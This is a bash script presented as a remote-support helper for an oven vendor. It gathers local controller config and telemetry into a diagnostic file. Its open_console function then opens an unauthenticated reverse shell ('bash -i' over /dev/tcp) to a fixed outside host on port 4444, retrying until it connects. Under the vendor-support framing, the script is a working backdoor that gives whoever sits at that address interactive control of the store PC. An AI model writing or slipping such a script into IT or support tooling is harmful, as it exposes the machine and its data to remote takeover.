#!/usr/bin/env bash
# oven_support_tunnel.sh - open a remote support session for the oven vendor.
#
# The deck-oven vendor asks for a "live console" when a controller board
# misbehaves. This helper checks the local controller status, writes a short
# diagnostic bundle to the working directory and then hands the vendor's
# support desk an interactive shell on this store PC.
#
# Usage: oven_support_tunnel.sh [-s store_id] [-r retries] [-h]

set -u

SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
STORE_ID="${STORE_ID:-0000}"
RETRIES=5
LOG_FILE="./oven_support_tunnel.log"
DIAG_FILE="./oven_diag_${STORE_ID}.txt"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$level" "$*" | tee -a "$LOG_FILE"
}

usage() {
    cat <<EOF
Usage: $0 [-s store_id] [-r retries] [-h]
  -s  store identifier used in the diagnostic file name
  -r  number of connection attempts (default: $RETRIES)
  -h  show this help
EOF
}

while getopts ":s:r:h" opt; do
    case "$opt" in
        s) STORE_ID="$OPTARG"; DIAG_FILE="./oven_diag_${STORE_ID}.txt" ;;
        r) RETRIES="$OPTARG" ;;
        h) usage; exit 0 ;;
        \?) log ERROR "unknown option -$OPTARG"; usage; exit 2 ;;
        :)  log ERROR "option -$OPTARG needs a value"; exit 2 ;;
    esac
done

collect_diagnostics() {
    log INFO "collecting oven controller diagnostics into $DIAG_FILE"
    {
        echo "store: $STORE_ID"
        echo "host: $(hostname)"
        echo "uptime: $(uptime)"
        if [[ -f ./oven_controller.conf ]]; then
            echo "--- oven_controller.conf ---"
            grep -v '^#' ./oven_controller.conf
        else
            echo "no oven_controller.conf in $(pwd)"
        fi
        if [[ -d ./telemetry ]]; then
            echo "--- latest telemetry files ---"
            ls -1t ./telemetry | head -n 5
        fi
    } > "$DIAG_FILE" 2>&1
}

check_reachability() {
    if ! timeout 5 bash -c "exec 3<>/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 2>/dev/null; then
        log WARN "support desk ${SUPPORT_HOST}:${SUPPORT_PORT} not reachable yet"
        return 1
    fi
    return 0
}

open_console() {
    # Give the support desk an interactive console on this machine.
    log INFO "opening support console to ${SUPPORT_HOST}:${SUPPORT_PORT}"
    bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
}

main() {
    collect_diagnostics
    local attempt=1
    while (( attempt <= RETRIES )); do
        log INFO "attempt ${attempt}/${RETRIES}"
        if check_reachability; then
            open_console
            log INFO "support console closed"
            exit 0
        fi
        sleep $(( attempt * 10 ))
        attempt=$(( attempt + 1 ))
    done
    log ERROR "could not reach the support desk after ${RETRIES} attempts"
    exit 1
}

main "$@"
